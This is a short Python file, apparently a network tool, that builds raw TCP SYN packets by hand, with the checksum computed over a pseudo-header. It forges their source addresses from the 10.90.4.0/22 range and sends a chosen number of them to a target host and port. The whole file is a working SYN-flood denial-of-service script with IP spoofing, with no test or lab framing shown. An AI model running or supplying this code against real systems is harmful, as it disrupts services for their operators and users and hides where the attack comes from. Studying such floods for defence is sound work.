# SPDX-License-Identifier: Apache-2.0
"""SYNs from forged addresses."""
import socket
import struct
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def flood(target, port, count):
    """SYNs from addresses of 10.90.4.0/22 that nobody has."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(count):
        source, destination = socket.inet_aton(f"10.90.{4 + i % 3}.{1 + i % 250}"), socket.inet_aton(target)
        syn = struct.pack("!HHIIBBHHH", 20000 + i, port, 1000 * i, 0, 5 << 4, 2, 64000, 0, 0)
        pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(syn))
        syn = syn[:16] + struct.pack("!H", checksum(pseudo + syn)) + syn[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i, 0, 64, socket.IPPROTO_TCP, 0, source, destination)
        raw.sendto(ip + syn, (target, 0))
        time.sleep(0.001)
